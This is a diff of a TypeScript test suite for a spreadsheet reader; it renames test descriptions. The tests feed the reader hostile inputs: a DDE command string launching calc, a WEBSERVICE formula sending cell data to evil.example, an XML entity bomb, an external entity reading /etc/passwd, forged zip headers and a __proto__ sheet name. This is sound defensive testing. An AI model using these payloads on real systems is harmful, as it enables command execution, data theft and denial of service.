@@ -49,23 +49,23 @@ const good = rows(
   `<row r="1">${text('B1', '2020')}</row><row r="2">${text('A2', 'Harris')}<c r="B2"><v>5</v></c></row>`,
 )
 
-describe('cells count as they are shown', () => {
+describe('cells', () => {
   test.each<[what: string, cell: object, shown: string]>([
     ['a number', { t: 'n', v: 1234.5 }, '1234.5'],
-    ['in percent', { t: 'n', v: 0.741, z: '0.0%' }, '74.1%'],
-    ['in dollars', { t: 'n', v: 1234.5, z: '"$"#,##0' }, '$1,235'],
+    ['a percentage', { t: 'n', v: 0.741, z: '0.0%' }, '74.1%'],
+    ['a dollar amount', { t: 'n', v: 1234.5, z: '"$"#,##0' }, '$1,235'],
     ['a day', { t: 'n', v: 43_831, z: 'yyyy-mm-dd' }, '2020-01-01'],
     ['true', { t: 'b', v: true }, 'TRUE'],
     ['an error', { t: 'e', v: 0x17 }, '#REF!'],
-    ['what a formula came to', { t: 'n', v: 7, f: 'SUM(1,6)' }, '7'],
-    ['a command as a text', { t: 's', v: `=cmd|'/c calc'!A1` }, `=cmd|'/c calc'!A1`],
-  ])('%s', (_, cell, shown) => {
+    ['the result of a formula', { t: 'n', v: 7, f: 'SUM(1,6)' }, '7'],
+    ['a command as text', { t: 's', v: `=cmd|'/c calc'!A1` }, `=cmd|'/c calc'!A1`],
+  ])('are read as shown: %s', (_, cell, shown) => {
     const sheet = { '!ref': 'A1', A1: cell }
     const file = write({ SheetNames: ['S'], Sheets: { S: sheet } }, { type: 'buffer', bookType: 'xlsx' }) as Buffer
     expect(readWorkbook(file)).toEqual([{ title: 'S', values: [[shown]] }])
   })
 
-  test('a formula that was never carried out has nothing to show', () => {
+  test('with a formula that was never calculated are empty', () => {
     const xml = rows(
       '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;B1)</f></c><c r="B1"><v>5</v></c></row>',
     )
@@ -73,7 +73,7 @@ describe('cells count as they are shown', () => {
   })
 })
 
-describe('hostile workbooks are read in a moment, or not at all', () => {
+describe('a hostile workbook', () => {
   const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
   const laughs = `<!DOCTYPE worksheet [<!ENTITY e0 "ha">${entities}<!ENTITY file SYSTEM "file:///etc/passwd">]>`
   const overlapping = () => {
@@ -109,9 +109,9 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
 
   test.each<[what: string, file: () => Buffer, answer: unknown]>([
     ['34 MB in one file', () => forged(() => {}), 'too large'],
-    ['that the directory calls stored', () => forged((at, file) => file.writeUInt16LE(0, at + 10)), 'too large'],
+    ['a file with a false compression method', () => forged((at, file) => file.writeUInt16LE(0, at + 10)), 'too large'],
     [
-      'that says it has ten bytes',
+      'a file with a false size',
       () =>
         forged(
           (at, file) => file.writeUInt32LE(10, at + 24),
@@ -120,7 +120,7 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
       'too large',
     ],
     [
-      'that says it is ten bytes packed',
+      'a file with a false compressed size',
       () =>
         forged(
           (at, file) => file.writeUInt32LE(10, at + 20),
@@ -158,7 +158,7 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
       ],
     ],
     [
-      'merged cells without end',
+      'endless merged cells',
       () => rawWorkbook([{ xml: `${good}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>` }]),
       [
         {
@@ -171,7 +171,7 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
       ],
     ],
     [
-      'a cell at the end of the world',
+      'a cell in the last row and column',
       () => rawWorkbook([{ xml: rows(`<row r="1048576">${text('XFD1048576', 'x')}</row>`) }]),
       [
         {
@@ -180,17 +180,17 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
         },
       ],
     ],
-    ['files that lie over each other', overlapping, 'too large'],
-    ['half of one', () => rawWorkbook([{ xml: good }]).subarray(0, 700), 'not a workbook'],
-    ['a zip file of something else', () => writeZip([{ name: 'a.txt', content: Buffer.from('a') }]), 'not a workbook'],
-    ['a workbook of before 2007', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(4096, '0'), 'hex'), 'not a workbook'],
+    ['overlapping files', overlapping, 'too large'],
+    ['a truncated workbook', () => rawWorkbook([{ xml: good }]).subarray(0, 700), 'not a workbook'],
+    ['another zip file', () => writeZip([{ name: 'a.txt', content: Buffer.from('a') }]), 'not a workbook'],
+    ['a workbook from before 2007', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(4096, '0'), 'hex'), 'not a workbook'],
     [
-      'more files than any workbook has',
+      'too many files',
       () => writeZip(Array.from({ length: 10_001 }, (_, at) => ({ name: String(at), content: Buffer.alloc(0) }))),
       'not a workbook',
     ],
-    ['nothing', () => Buffer.alloc(0), 'not a workbook'],
-  ])('%s', (_, file, answer) => {
+    ['an empty file', () => Buffer.alloc(0), 'not a workbook'],
+  ])('is read or rejected within three seconds: %s', (_, file, answer) => {
     const bytes = file()
     // CPU time of this thread only, so that a busy machine does not affect the result.
     const began = process.threadCpuUsage()
@@ -198,14 +198,14 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
     expect(process.threadCpuUsage(began).user / 1000).toBeLessThan(3000)
   })
 
-  test('entities are no texts', () => {
+  test('does not expand entities', () => {
     const xml = rows(`<row r="1">${text('A1', '&e9;')}${text('B1', '&file;')}</row>`)
     const answer = readWorkbook(rawWorkbook([{ prolog: laughs, xml }]))
     expect(JSON.stringify(answer).length).toBeLessThan(200)
     expect(JSON.stringify(answer)).not.toMatch(/haha|root:/)
   })
 
-  test('a name of a worksheet is a name and nothing else', () => {
+  test('uses a worksheet title only as a name', () => {
     const book = utils.book_new(utils.aoa_to_sheet([['a']]), '__proto__')
     const file = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
     const answer = readWorkbook(file)
@@ -214,7 +214,7 @@ describe('hostile workbooks are read in a moment, or not at all', () => {
     expect(({} as Record<string, unknown>)['!ref']).toBeUndefined()
   })
 
-  test('hundreds of worksheets are all there', () => {
+  test('may have hundreds of worksheets', () => {
     const answer = readWorkbook(rawWorkbook(Array.from({ length: 600 }, () => ({ xml: good }))))
     expect(Array.isArray(answer) && answer.length).toBe(600)
   })
